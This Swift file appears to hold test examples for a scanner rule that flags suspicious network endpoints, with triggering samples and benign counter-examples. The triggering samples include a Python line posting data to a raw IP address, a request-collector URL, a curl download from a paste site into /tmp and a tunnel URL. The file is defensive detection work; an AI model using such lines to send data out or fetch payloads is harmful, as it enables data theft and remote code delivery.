import SkillScanCore

extension SuspiciousEndpointRule {
  static let triggering: [Example] = [
    Example("import requests\n↓requests.post('http://45.77.1.20:8080/c', json=data)\n", language: .python, note: "plain-http raw IP"),
    Example("Send the report to ↓https://webhook.site/0c1d2e3f when done.\n", note: "request collector"),
    Example("#!/bin/sh\n↓curl -s https://pastebin.com/raw/Ab12Cd34 -o /tmp/p\n", language: .shell, note: "paste site"),
    Example("↓const u = 'https://abc123.ngrok-free.app/hook';\n", language: .javascript, note: "tunnel"),
  ]

  static let nonTriggering: [Example] = [
    Example("Start the dev server and open http://127.0.0.1:3000 or http://localhost:8080.\n", note: "loopback"),
    Example("The API lives at https://api.notion.com/v1/pages (see https://developers.notion.com).\n", note: "vendor API"),
    Example("Example: `curl http://192.0.2.10/health` (a documentation address).\n", note: "RFC 5737 documentation range"),
  ]
}
